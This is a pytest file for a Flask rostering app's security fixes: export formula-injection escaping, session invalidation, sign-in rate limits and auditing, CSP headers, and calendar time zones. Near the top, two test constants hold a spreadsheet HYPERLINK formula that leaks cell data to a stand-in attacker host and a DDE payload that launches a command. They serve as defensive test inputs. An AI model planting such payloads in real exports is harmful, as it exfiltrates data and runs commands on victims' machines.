"""The security fixes of issue #17.

Formula injection in exports, sessions that end, sign-in auditing and limits, security headers
and the Content-Security-Policy, the calendar feed's time zones.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
import zoneinfo
from typing import Any

import pytest
from flask import Flask

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
EVIL_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- formula injection ----------------------------------------------------------------------


def test_spreadsheet_safe_follows_the_owasp_rule() -> None:
    from web.app.services import spreadsheet_safe

    for first in TRIGGERS:
        assert spreadsheet_safe(first + "1+1") == "'" + first + "1+1"
    assert spreadsheet_safe("-2.5") == "-2.5" and spreadsheet_safe("+3") == "+3"
    assert spreadsheet_safe("-inf") == "'-inf"
    assert spreadsheet_safe("Aisha Khan") == "Aisha Khan"
    assert spreadsheet_safe(7) == 7 and spreadsheet_safe(None) is None


def _poison(app: Flask) -> None:
    """Agent A1 named with a live formula; agent A2's id a DDE payload (agents and shifts)."""
    from web.app.extensions import db
    from web.app.models import Agent, Shift

    with app.app_context():
        db.session.execute(db.update(Agent).where(Agent.agent_id == "A1").values(name=EVIL_NAME))
        db.session.execute(db.update(Agent).where(Agent.agent_id == "A2").values(agent_id=EVIL_ID))
        db.session.execute(db.update(Shift).where(Shift.agent_id == "A2").values(agent_id=EVIL_ID))
        db.session.commit()


def _assert_no_formula_cell(values: list[str]) -> None:
    live = [v for v in values if v.startswith(TRIGGERS)]
    assert not live, live


def test_exports_never_hold_a_live_formula(published_app: Flask, h: Any) -> None:
    from openpyxl import load_workbook

    from web.app.extensions import db
    from web.app.models import RosterVersion

    _poison(published_app)
    with published_app.app_context():
        rid = db.session.scalars(db.select(RosterVersion.id)).one()
    c = published_app.test_client()
    assert h.sign_in(c, "manager").status_code == 302

    agents = list(csv.reader(io.StringIO(c.get("/agents/export.csv").get_data(as_text=True))))
    _assert_no_formula_cell([v for row in agents for v in row])
    flat = [v for row in agents for v in row]
    assert "'" + EVIL_NAME in flat and "'" + EVIL_ID in flat

    text = c.get(f"/roster/{rid}/export.csv").get_data(as_text=True)
    roster = list(csv.reader(io.StringIO(text)))
    _assert_no_formula_cell([v for row in roster for v in row])
    assert "'" + EVIL_ID in [row[0] for row in roster]

    body = c.get(f"/roster/{rid}/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(body))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    _assert_no_formula_cell(seen)
    assert "'" + EVIL_NAME in seen and "'" + EVIL_ID in seen


# --- sessions end on the server -------------------------------------------------------------


def _copy_of_session(app: Flask, source: Any) -> Any:
    """A second client carrying a copy of ``source``'s session cookie (what a thief would)."""
    cookie = source.get_cookie("session")
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie("session", cookie.value)
    return thief


def _reads(client: Any, path: str) -> bool:
    response = client.get(path)
    response.close()
    return bool(response.status_code == 200)


def test_a_copied_session_cookie_is_dead_after_sign_out(published_app: Flask, h: Any) -> None:
    from web.app.extensions import db
    from web.app.models import RosterVersion

    with published_app.app_context():
        rid = db.session.scalars(db.select(RosterVersion.id)).one()
    planner = published_app.test_client()
    assert h.sign_in(planner, "planner").status_code == 302
    thief = _copy_of_session(published_app, planner)
    export = f"/roster/{rid}/export.csv"
    assert _reads(thief, "/planner") and _reads(thief, export)
    other_device = published_app.test_client()
    assert h.sign_in(other_device, "planner").status_code == 302
    assert h.post(planner, "/logout").status_code == 302
    for client in (thief, other_device, planner):
        response = client.get("/planner")
        assert response.status_code == 302 and "/login" in response.headers["Location"]
        assert client.get(export).status_code == 302
    # signing in again works, with a new session
    assert h.sign_in(planner, "planner").status_code == 302
    assert _reads(planner, "/planner") and not _reads(thief, "/planner")


def test_a_new_password_ends_every_session(app: Flask, h: Any) -> None:
    from web.app.extensions import db
    from web.app.models import User

    c = app.test_client()
    assert h.sign_in(c, "manager").status_code == 302
    thief = _copy_of_session(app, c)
    assert _reads(thief, "/planner")
    with app.app_context():
        user = db.session.scalars(db.select(User).filter_by(username="manager")).one()
        user.set_password("a brand new passphrase")
        db.session.commit()
    assert not _reads(thief, "/planner") and not _reads(c, "/planner")
    assert h.sign_in(c, "manager", "a brand new passphrase").status_code == 302
    assert _reads(c, "/planner")


def test_wfm_users_create_resetting_a_password_ends_sessions(app: Flask, h: Any) -> None:
    from web.cli._serve import create_user

    c = app.test_client()
    assert h.sign_in(c, "planner").status_code == 302
    with app.app_context():
        create_user("planner", "planner", "another passphrase")
    assert not _reads(c, "/planner")


def test_deactivating_a_user_ends_every_session(app: Flask, h: Any) -> None:
    from web.app.extensions import db
    from web.app.models import User

    c = app.test_client()
    assert h.sign_in(c, "planner").status_code == 302
    with app.app_context():
        user = db.session.scalars(db.select(User).filter_by(username="planner")).one()
        user.active = False
        db.session.commit()
    assert not _reads(c, "/planner")
    with app.app_context():
        user = db.session.scalars(db.select(User).filter_by(username="planner")).one()
        user.active = True  # reactivated: the old session stays dead
        db.session.commit()
    assert not _reads(c, "/planner")


def test_wfm_users_deactivate(app: Flask, h: Any) -> None:
    from click.testing import CliRunner

    from web.cli import cli

    c = app.test_client()
    assert h.sign_in(c, "agent").status_code == 302
    assert _reads(c, "/me")
    result = CliRunner().invoke(
        cli, ["users", "deactivate", "agent", "--instance", app.instance_path]
    )
    assert result.exit_code == 0, result.output
    assert not _reads(c, "/me")
    assert h.sign_in(app.test_client(), "agent").status_code == 401
    missing = CliRunner().invoke(
        cli, ["users", "deactivate", "nobody", "--instance", app.instance_path]
    )
    assert missing.exit_code != 0 and "no user" in missing.output


def test_a_session_id_without_its_token_loads_nobody(app: Flask) -> None:
    from web.app.extensions import db
    from web.app.models import User, user_for_session_id

    with app.app_context():
        user: User = db.session.scalars(db.select(User).filter_by(username="admin")).one()
        user.end_sessions()
        db.session.commit()
        good = user.get_id()
        assert user_for_session_id(good, db.session.get) is user
        for forged in (
            str(user.id),
            f"{user.id}:",
            f"{user.id}:x",
            f"{user.id}:{good[-5:]}",
            "x:y",
        ):
            assert user_for_session_id(forged, db.session.get) is None, forged


# --- sign-in: audit, limits per address and per user name, proxies ---------------------------


def _attempt(client: Any, h: Any, username: str, password: str = "wrong", **kw: Any) -> Any:
    token = h.csrf_token(client)
    return client.post(
        "/login", data={"username": username, "password": password, "csrf_token": token}, **kw
    )


def test_failed_sign_ins_are_audited_with_name_and_address(app: Flask, h: Any) -> None:
    from web.app.extensions import db
    from web.app.models import AuditEntry

    c = app.test_client()
    env = {"REMOTE_ADDR": "198.51.100.7"}
    assert _attempt(c, h, "planner", environ_base=env).status_code == 401
    assert _attempt(c, h, "nobody", environ_base=env).status_code == 401
    with app.app_context():
        rows = db.session.scalars(
            db.select(AuditEntry).where(AuditEntry.action == "sign_in_failed")
        ).all()
        seen = [(r.username, r.target, r.detail) for r in rows]
    assert seen == [
        ("planner", "user:planner", "from 198.51.100.7"),
        ("nobody", "user:nobody", "from 198.51.100.7"),
    ]
    admin = app.test_client()
    assert h.sign_in(admin, "admin").status_code == 302
    page = admin.get("/audit").get_data(as_text=True)
    assert "sign_in_failed" in page and "198.51.100.7" in page


def test_a_429_says_when_to_retry(tmp_path: Any, h: Any) -> None:
    app = h.make_app(tmp_path / "instance", LOGIN_RATE_LIMIT="2 per minute")
    c = app.test_client()
    codes = [_attempt(c, h, "x").status_code for _ in range(3)]
    assert codes == [401, 401, 429]
    response = _attempt(c, h, "x")
    assert response.status_code == 429
    assert 0 < int(response.headers["Retry-After"]) <= 60


def test_the_limit_is_also_per_user_name(tmp_path: Any, h: Any) -> None:
    """Guessing one user's password from many addresses still hits a limit."""
    app = h.make_app(tmp_path / "instance", LOGIN_RATE_LIMIT="3 per minute")
    h.seed_center(app)
    codes = []
    for i in range(5):
        client = app.test_client()
        env = {"REMOTE_ADDR": f"203.0.113.{i + 1}"}
        codes.append(_attempt(client, h, "planner", environ_base=env).status_code)
    assert codes == [401, 401, 401, 429, 429]
    # another user name from a fresh address is not limited
    other = app.test_client()
    assert (
        _attempt(other, h, "manager", environ_base={"REMOTE_ADDR": "203.0.113.99"}).status_code
        == 401
    )


def test_behind_a_trusted_proxy_clients_do_not_share_a_limit(tmp_path: Any, h: Any) -> None:
    def codes(app: Flask) -> list[int]:
        out = []
        for i in range(4):  # four clients, each once, all through the proxy at 10.0.0.1
            env = {"REMOTE_ADDR": "10.0.0.1"}
            headers = {"X-Forwarded-For": f"192.0.2.{i + 1}"}
            client = app.test_client()
            out.append(
                _attempt(client, h, f"user{i}", environ_base=env, headers=headers).status_code
            )
        return out

    untrusted = h.make_app(tmp_path / "a", LOGIN_RATE_LIMIT="2 per minute")
    assert codes(untrusted) == [401, 401, 429, 429]  # the header is ignored: one address
    trusted = h.make_app(tmp_path / "b", LOGIN_RATE_LIMIT="2 per minute", PROXY_FIX_X_FOR=1)
    assert codes(trusted) == [401, 401, 401, 401]
    from web.app.extensions import db
    from web.app.models import AuditEntry

    with trusted.app_context():
        details = db.session.scalars(
            db.select(AuditEntry.detail).where(AuditEntry.action == "sign_in_failed")
        ).all()
    assert details == [f"from 192.0.2.{i + 1}" for i in range(4)]


# --- calendar feed: a VTIMEZONE for every TZID (RFC 5545, 3.6.5 and 3.2.19) --------------------


def _strict_timezones(body: bytes) -> dict[str, list[tuple[dt.datetime, str]]]:
    """Check an iCalendar body as RFC 5545 reads it; the TZID -> local times that use it.

    Lines end in CRLF and are at most 75 octets; components nest; every ``TZID=`` parameter
    names a ``VTIMEZONE`` of the calendar that has a ``TZID`` and at least one ``STANDARD`` or
    ``DAYLIGHT`` part with ``DTSTART``, ``TZOFFSETFROM`` and ``TZOFFSETTO``; and at each local
    time that uses it the offset the VTIMEZONE gives is the zone's real one.
    """
    assert body.endswith(b"\r\n") and b"\n" not in body.replace(b"\r\n", b"")
    raw = body.split(b"\r\n")[:-1]
    assert all(len(octets) <= 75 for octets in raw), "line longer than 75 octets"
    lines: list[str] = []
    for octets in raw:
        if octets[:1] in (b" ", b"\t"):
            lines[-1] += octets[1:].decode()
        else:
            lines.append(octets.decode())
    stack: list[str] = []
    zones: dict[str, list[dict[str, str]]] = {}
    used: dict[str, list[tuple[dt.datetime, str]]] = {}
    zone_id, part = "", None
    for line in lines:
        name_params, _, value = line.partition(":")
        name, *params = name_params.split(";")
        if name == "BEGIN":
            stack.append(value)
            if value == "VTIMEZONE":
                zone_id = ""
            elif value in ("STANDARD", "DAYLIGHT"):
                assert stack[-2] == "VTIMEZONE"
                part = {"kind": value}
            continue
        if name == "END":
            assert stack.pop() == value, f"END:{value} does not close its BEGIN"
            if value in ("STANDARD", "DAYLIGHT"):
                assert part is not None
                assert {"DTSTART", "TZOFFSETFROM", "TZOFFSETTO"} <= set(part), part
                assert zone_id, "TZID must come before the zone's parts"
                zones.setdefault(zone_id, []).append(part)
                part = None
            continue
        if stack and stack[-1] == "VTIMEZONE" and name == "TZID":
            zone_id = value
        elif part is not None:
            if name == "RDATE":  # more onsets of the same rule
                value = ",".join(filter(None, [part.get("RDATE", ""), value]))
            assert name != "RRULE", "this check expands RDATE only"
            part[name] = value
        for param in params:
            key, _, tzid = param.partition("=")
            if key == "TZID":
                local = dt.datetime.strptime(value, "%Y%m%dT%H%M%S")
                used.setdefault(tzid.strip('"'), []).append((local, name))
    assert not stack
    for tzid, times in used.items():
        assert tzid in zones, f"TZID={tzid} has no VTIMEZONE"
        for local, _prop in times:
            # the last onset at or before the local time gives its offset
            onsets = sorted(
                (dt.datetime.strptime(start, "%Y%m%dT%H%M%S"), p["TZOFFSETTO"])
                for p in zones[tzid]
                for start in [p["DTSTART"], *filter(None, p.get("RDATE", "").split(","))]
            )
            before = [o for o in onsets if o[0] <= local]
            assert before, f"{tzid}: no rule covers {local}"
            offset = before[-1][1]
            real = local.replace(tzinfo=zoneinfo.ZoneInfo(tzid)).strftime("%z")
            assert offset == real, (tzid, local, offset, real)
    return used


def _frame(tz: str, days: list[str]) -> Any:
    import pandas as pd

    rows = []
    for day in days:
        start = pd.Timestamp(f"{day} 08:00", tz=tz)
        rows.append(
            (
                "A1",
                dt.date.fromisoformat(day),
                "work",
                "voice",
                start,
                start + pd.Timedelta(hours=9),
            )
        )
        lunch = start + pd.Timedelta(hours=4)
        rows.append(
            ("A1", dt.date.fromisoformat(day), "lunch", "", lunch, lunch + pd.Timedelta(hours=1))
        )
    return pd.DataFrame(rows, columns=["agent_id", "date", "activity", "channel", "start", "end"])


@pytest.mark.parametrize(
    ("tz", "days"),
    [
        ("Asia/Dubai", ["2025-10-27", "2025-10-28"]),
        (
            "Europe/London",
            ["2025-03-29", "2025-03-31", "2025-10-25", "2025-10-27"],
        ),  # both DST ends
        ("America/Sao_Paulo", ["2025-01-06"]),
    ],
)
def test_feed_has_a_vtimezone_for_every_tzid(tz: str, days: list[str]) -> None:
    from icalendar import Calendar

    from web.ical import agent_calendar

    stamp = dt.datetime(2025, 10, 20, tzinfo=dt.UTC)
    body = agent_calendar(_frame(tz, days), "A1", name="Shifts", published_at=stamp, version=3)
    used = _strict_timezones(body)
    assert set(used) == {tz} and len(used[tz]) == 4 * len(days)
    parsed = Calendar.from_ical(body)
    assert parsed.get_missing_tzids() == set()
    assert [str(z.tz_name) for z in parsed.timezones] == [tz]


def test_published_feed_passes_the_strict_check(published_app: Flask, h: Any) -> None:
    c = published_app.test_client()
    assert h.sign_in(c, "agent").status_code == 302
    body = c.get("/me/calendar.ics").data
    used = _strict_timezones(body)
    assert list(used) == ["Asia/Dubai"] and len(used["Asia/Dubai"]) >= 10


# --- headers and the Content-Security-Policy --------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script\b(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")", re.I)
HANDLER = re.compile(r"(?<![\w-])on[a-z]+\s*=", re.I)
STYLE_ATTR = re.compile(r"(?<![\w-])style\s*=", re.I)


def test_no_template_has_an_inline_script_handler_or_style() -> None:
    """What ``script-src 'self'`` and ``style-src 'self'`` would block (issue #17)."""
    from web.app import WEB_DIR

    templates = sorted((WEB_DIR / "templates").rglob("*.html"))
    assert len(templates) > 20
    for path in templates:
        text = path.read_text(encoding="utf-8")
        for pattern in (INLINE_SCRIPT, HANDLER, STYLE_ATTR):
            match = pattern.search(text)
            assert match is None, (
                f"{path.name}: {text[max(0, match.start() - 60) : match.end() + 40]!r}"
            )
    # HTML that app.js builds is held to the same rule
    script = (WEB_DIR / "static" / "app.js").read_text(encoding="utf-8")
    for fragment in re.findall(r"[\"'](<[^\"']*)", script):
        assert not HANDLER.search(fragment) and not STYLE_ATTR.search(fragment), fragment
    assert "eval(" not in script and "new Function" not in script


def test_the_checks_above_catch_what_they_should() -> None:
    assert INLINE_SCRIPT.search("<script>pollJob(3);</script>")
    assert INLINE_SCRIPT.search("<SCRIPT type='text/javascript'>x()</SCRIPT>")
    assert not INLINE_SCRIPT.search('<script src="/static/app.js"></script>')
    assert not INLINE_SCRIPT.search('<script id="i18n-strings" type="application/json">{}</script>')
    assert HANDLER.search('<select onchange="this.form.submit()">')
    assert HANDLER.search('<td {% if x %}onclick="editShift(this)"{% endif %}>')
    assert STYLE_ATTR.search('<div style="height:360px">')
    assert not HANDLER.search('<td data-onclick="x" data-edit-shift>')
    assert STYLE_ATTR.search("<div\nstyle='x'>") and not STYLE_ATTR.search('<div data-style="x">')


def _csp(response: Any) -> dict[str, str]:
    policy = response.headers["Content-Security-Policy"]
    return {d.split()[0]: " ".join(d.split()[1:]) for d in policy.split(";") if d.strip()}


def _assert_common_headers(response: Any, where: str) -> None:
    csp = _csp(response)
    assert csp["default-src"] == "'self'", where
    assert csp["script-src"] == "'self'" and csp["style-src"] == "'self'", where
    assert csp["frame-ancestors"] == "'none'" and csp["object-src"] == "'none'", where
    assert "unsafe" not in response.headers["Content-Security-Policy"], where
    assert "*" not in response.headers["Content-Security-Policy"], where
    assert response.headers["X-Frame-Options"] == "DENY", where
    assert response.headers["X-Content-Type-Options"] == "nosniff", where
    assert response.headers["Referrer-Policy"] in ("same-origin", "no-referrer"), where


def test_security_headers_on_public_and_signed_in_pages(published_app: Flask, h: Any) -> None:
    from web.app.extensions import db
    from web.app.models import RosterVersion

    with published_app.app_context():
        rid = db.session.scalars(db.select(RosterVersion.id)).one()
    anonymous = published_app.test_client()
    for path in ("/login", "/", "/static/app.css", "/no/such/page", "/planner"):
        response = anonymous.get(path)
        _assert_common_headers(response, path)
        assert "no-store" not in response.headers.get("Cache-Control", ""), path
        response.close()
    planner = published_app.test_client()
    assert h.sign_in(planner, "planner").status_code == 302
    signed_in_paths = (
        "/planner",
        f"/roster/{rid}",
        f"/roster/{rid}/export.csv",
        f"/roster/{rid}/export.xlsx",
        f"/api/roster/{rid}/coverage",
        "/agents/export.csv",
        "/audit",
        "/no/such/page",
        "/me",  # 403 for a planner: still private
    )
    for path in signed_in_paths:
        response = planner.get(path)
        _assert_common_headers(response, path)
        assert response.headers["Cache-Control"] == "no-store", path
        response.close()
    static = planner.get("/static/app.js")
    assert "no-store" not in static.headers.get("Cache-Control", "")
    static.close()
    # the agent's feed is public (its token is the credential) but private: no-store too
    agent = published_app.test_client()
    assert h.sign_in(agent, "agent").status_code == 302
    page = h.post(agent, "/me/calendar/reset").get_data(as_text=True)
    url = re.search(r'value="(http://localhost/feed/[^"]+\.ics)"', page)
    assert url is not None
    feed = published_app.test_client().get(url.group(1).removeprefix("http://localhost"))
    assert feed.status_code == 200 and feed.headers["Cache-Control"] == "no-store"
    _assert_common_headers(feed, "feed")


def test_hsts_only_over_https(app: Flask) -> None:
    client = app.test_client()
    assert "Strict-Transport-Security" not in client.get("/login").headers
    secure = client.get("/login", base_url="https://localhost")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=")
